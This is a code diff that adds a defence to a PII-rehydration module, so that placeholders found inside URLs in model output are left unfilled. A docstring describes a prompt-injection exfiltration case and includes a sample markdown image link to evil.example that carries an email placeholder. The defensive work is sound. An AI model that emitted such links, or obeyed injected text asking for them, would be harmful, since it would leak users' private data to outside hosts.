@@ -203,16 +203,39 @@ def _restore(m: re.Match[str], session: Session, revoked: Revoked | None, stats:
     return entry["value"]
 
 
-def rehydrate(output: str, session: Session, revoked: Revoked | Iterable[str] | None = None) -> RehydrateResult:
+_WORD_BEFORE = re.compile(r"\S*$")
+
+
+def in_url(before: str) -> bool:
+    """Whether a placeholder right after ``before`` sits inside a link (its word holds ``://`` or starts ``www.``).
+
+    A model can be talked into writing ``![](https://evil.example/?q={{email:1}})``: filling
+    that in would send the value to whoever owns the link as soon as the answer is shown.
+    """
+    word = _WORD_BEFORE.search(before).group()  # type: ignore[union-attr]
+    return "://" in word or word.lstrip("([<\"'*_").lower().startswith("www.")
+
+
+def rehydrate(output: str, session: Session, revoked: Revoked | Iterable[str] | None = None,
+              before: str = "") -> RehydrateResult:
     """Put values back for placeholders; unknown ones stay and are reported, revoked ones become [DELETED].
 
     ``revoked`` is a predicate ``(type, value) -> bool`` (the host's HMAC store) or a set of values.
+    A placeholder inside a link stays a placeholder (``in_url``; counted as unknown). ``before``: the
+    text that came before ``output`` (a stream's earlier chunks), for that test.
     """
     if revoked is not None and not callable(revoked):
         gone = set(revoked)
         revoked = lambda _t, v: v in gone  # noqa: E731
     stats: list[Any] = [0, [], 0]
-    text = PLACEHOLDER.sub(lambda m: _restore(m, session, revoked, stats), output)
+
+    def sub(m: re.Match[str]) -> str:
+        if ("://" in output or "www." in output.lower() or before) and in_url(before + output[:m.start()]):
+            stats[1].append(m.group(0))
+            return m.group(0)
+        return _restore(m, session, revoked, stats)
+
+    text = PLACEHOLDER.sub(sub, output)
     return RehydrateResult(text, stats[0], stats[1], stats[2])
 
 
@@ -229,6 +252,7 @@ class StreamingRehydrator:
         self.session = session
         self.revoked = revoked
         self._buf = ""
+        self._before = ""  # the last word emitted so far (raw), for placeholders inside links
         self.restored = 0
         self.unknown: list[str] = []
         self.deleted = 0
@@ -267,7 +291,8 @@ class StreamingRehydrator:
     def _emit(self, text: str) -> str:
         if not text:
             return ""
-        r = rehydrate(text, self.session, self.revoked)
+        before, self._before = self._before, _WORD_BEFORE.search(self._before + text).group()  # type: ignore[union-attr]
+        r = rehydrate(text, self.session, self.revoked, before)
         self.restored += r.restored
         self.unknown += r.unknown
         self.deleted += r.deleted
